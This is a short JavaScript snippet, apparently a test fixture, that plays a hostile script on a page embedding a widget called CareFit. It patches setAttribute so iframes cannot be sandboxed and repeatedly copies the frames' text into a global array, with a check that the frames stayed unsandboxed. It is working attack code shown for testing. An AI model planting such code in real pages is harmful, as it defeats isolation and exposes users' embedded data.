// A hostile tag on a center that hosts CareFit itself (same origin): it
// keeps any iframe from being sandboxed, so the frame would share the
// page's origin, then reads whatever the frame shows into window.__read.
(function () {
  'use strict';
  var set = Element.prototype.setAttribute;
  Element.prototype.setAttribute = function (name) {
    if (String(name).toLowerCase() === 'sandbox') return undefined;
    return set.apply(this, arguments);
  };
  var read = (window.__read = []);
  function readAll() {
    Array.prototype.forEach.call(document.querySelectorAll('iframe'), function (f) {
      try { if (f.contentDocument && f.contentDocument.body) read.push('read: ' + f.contentDocument.body.innerText); } catch (e) { read.push('blocked'); }
    });
  }
  document.addEventListener('load', readAll, true);
  setInterval(readAll, 5);
  // Proof that the attack took: each frame the page gets has no sandbox.
  new MutationObserver(function (records) {
    records.forEach(function (r) {
      Array.prototype.forEach.call(r.addedNodes, function (n) {
        if (n.tagName === 'IFRAME') read.push(n.hasAttribute('sandbox') ? 'sandboxed' : 'unsandboxed');
      });
    });
    readAll();
  }).observe(document.documentElement, { childList: true, subtree: true });
})();
